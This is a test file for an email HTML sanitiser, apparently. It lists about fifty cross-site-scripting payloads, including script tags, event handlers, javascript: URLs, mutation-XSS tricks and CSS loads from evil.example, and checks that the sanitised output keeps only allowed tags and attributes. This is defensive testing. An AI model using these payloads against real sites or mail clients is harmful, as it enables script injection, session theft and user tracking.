import fc from 'fast-check';
import { expect, it } from 'vitest';
import { growthOf, linear } from '../../../../test/cpu-time.ts';
import { sanitise } from './sanitise.ts';

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>1</script>">',
  '<object data="x.swf"></object>',
  '<embed src=x>',
  '<form action=//evil.example><input name=p><button formaction=javascript:1>x</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import url(//evil.example)</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<div style="background-color:red;background-image:\\75rl(//evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="margin-top:-9999px">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><tr><td><template><script>1</script></template>',
  '<xmp><script>1</script></xmp>',
  '<plaintext><script>1',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>1</script>]]>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<img srcset="//evil.example/x 2x">',
  '<body background=//evil.example/x onload=1>',
  '<video poster=//evil.example/x src=x></video>',
  '<input type=image src=x onerror=1>',
  '<isindex action=javascript:1>',
  '<div data-quote="x" data-remote="javascript:1" id=x class=y>x</div>',
  '<img data-remote="javascript:alert(1)" src="cid:a&quot;onerror=1">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<p title="<script>alert(1)</script>">x</p>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<a href="//evil.example">x</a>',
  '<a target=_top href=https://x.example>x</a>',
];

const allowedTag =
  /^<\/?(a|abbr|address|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)(\s[a-z-]+="[^"<>]*")*\s*\/?>$/;
const allowedAttribute =
  /^(align|valign|width|height|bgcolor|dir|lang|title|style|href|rel|target|src|alt|data-remote|data-quote|border|color|face|size|start|type|value|cellpadding|cellspacing|colspan|rowspan|span)$/;

/** Reads the answer as a browser would: every '<' is a tag we know, every attribute is quoted and of the list. */
function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    expect(tag).toMatch(allowedTag);
    for (const [, name = '', value = ''] of tag.matchAll(/\s([a-z-]+)="([^"]*)"/g)) {
      expect(name).toMatch(allowedAttribute);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/i);
      if (name === 'src') expect(value).toMatch(/^(cid:|data:image\/(png|jpe?g|gif|webp);base64,)/i);
      if (name === 'data-remote') expect(value).toMatch(/^https?:\/\//);
      if (name === 'style') expect(value).not.toMatch(/url|expression|position|\\|@|\/\*|:-\d/i);
    }
  }
}

it.each(vectors)('[O-06] leaves nothing that runs, fetches or covers: %s', (vector) => {
  expectHarmless(sanitise(vector));
  expectHarmless(sanitise(`<table><td>${vector}`));
  expect(sanitise(sanitise(vector))).toBe(sanitise(vector));
});

it('[O-06] the same of whatever is put together at random', () => {
  const piece = fc.oneof(
    fc.constantFrom(...vectors),
    fc.string(),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&lt;',
      '<!--',
      '-->',
      '<div ',
      ' style=',
      '<a href=',
      '</',
      'on',
      '=',
      '\u0000',
      '\ud800',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectHarmless(sanitise(pieces.join('')))),
    { numRuns: 400 },
  );
});

it('[O-06] keeps what a mail looks like; remote pictures wait, those of the mail are shown', () => {
  expect(
    sanitise('<p style="color: rgb(1, 2, 3); position:absolute; font-weight:bold" class=x onclick=y>A <b>b</b></p>'),
  ).toBe('<p style="color:rgb(1, 2, 3);font-weight:bold">A <b>b</b></p>');
  expect(sanitise('<img src="http://pics.example/a.png?x=1&amp;y=2" alt="A">')).toBe(
    '<img alt="A" data-remote="http://pics.example/a.png?x=1&amp;y=2" />',
  );
  expect(sanitise('<img src="cid:a@b">')).toBe('<img src="cid:a@b" />');
  expect(sanitise('<a href="https://x.example" onclick=1>x</a>')).toBe(
    '<a href="https://x.example" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
});

it('[O-06] huge nesting and size cost no time', () => {
  const nested = (times: number) =>
    sanitise(`${'<div>'.repeat(times)}x${'</div>'.repeat(times)}${'<b '.repeat(times)}`);
  expect(nested(60_000).match(/<div>/g)?.length ?? 0).toBeLessThanOrEqual(60);
  expect(growthOf(60_000, nested)).toBeLessThan(linear);
});

it('[O-06] of what is nested deeper than a person writes, the words stay', () => {
  const deep = `${'<div>'.repeat(2500)}<b>In the</b> depth<script>alert(1)</script>`;
  expect(sanitise(`<p>Before</p>${deep}`)).toMatch(/^<p>Before<\/p><div>.*In the\s+depth/);
  // Elements that close, or need no end, lie beside each other.
  const wide = `${'<div><b>a</b></div>'.repeat(2500)}${'<p>b<br>'.repeat(2500)}<b>c</b>`;
  expect(sanitise(wide)).toContain('<b>c</b>');
});
